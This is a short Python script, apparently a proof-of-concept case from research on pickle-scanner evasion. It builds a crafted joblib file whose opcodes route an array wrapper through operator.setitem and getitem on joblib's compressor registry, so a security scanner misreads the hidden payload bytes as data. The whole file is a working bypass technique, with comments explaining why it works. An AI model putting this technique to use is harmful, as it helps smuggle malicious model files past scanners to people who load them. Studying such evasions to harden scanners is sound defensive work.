from common import *
# A wrapper handed through a mutable object that lives outside the pickle's object graph:
# operator.setitem(joblib.numpy_pickle._COMPRESSORS, 'k', wrapper), then
# operator.getitem(joblib.numpy_pickle._COMPRESSORS, 'k') gives the (unbuilt) wrapper back
# as the result of a call whose arguments reach no wrapper in the scanner's graph. Its BUILD
# makes joblib read N array bytes; the scanner does not skip them (reads them as opcodes:
# a BINSTRING over the payload).
N = 30
D = G('joblib.numpy_pickle','_COMPRESSORS')
hdr = (b'\x80\x02' + wrapper6(N) + b'q\x050'
       + G('operator','setitem') + b'(' + D + U('k') + b'h\x05tR0'
       + G('operator','getitem') + b'(' + D + U('k') + b'tR'
       + b'}b')
run('b10.joblib', hdr + region(N, [0]))
